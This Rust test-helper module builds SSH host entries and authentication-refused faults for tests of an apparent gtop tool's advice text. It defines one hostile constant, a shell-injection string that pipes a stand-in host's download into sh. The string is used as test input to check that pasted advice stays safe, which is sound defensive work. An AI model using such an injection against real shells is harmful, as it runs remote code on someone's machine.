//! Nodes and faults of the tests of this room.

use crate::advice::known::Known;
use gtop_local::fault::ssh::Fault as SshFault;

/// A shell injection, if the text were pasted.
pub(super) const HOSTILE: &str = "x; curl evil|sh #";

pub(super) fn known(
    node: &str,
    user: Option<&str>,
    port: Option<u16>,
    configured: Option<&str>,
) -> Known {
    let mut known = Known::new(node, user, "gpu11", port);
    if let Some(user) = configured {
        known.set_option("User", &[user.to_owned()], None);
    }
    known
}

pub(super) fn plain() -> Known {
    known("gpu11", None, None, None)
}

pub(super) fn refused(user: &str, tried: &[&str]) -> SshFault {
    let tried = tried.iter().map(|&what| what.to_owned()).collect();
    SshFault::AuthenticationRefused {
        user: user.to_owned(),
        offers: vec!["publickey".to_owned()],
        tried,
    }
}

pub(super) fn text(known: &Known, fault: &SshFault) -> String {
    known.of_ssh(fault).text()
}
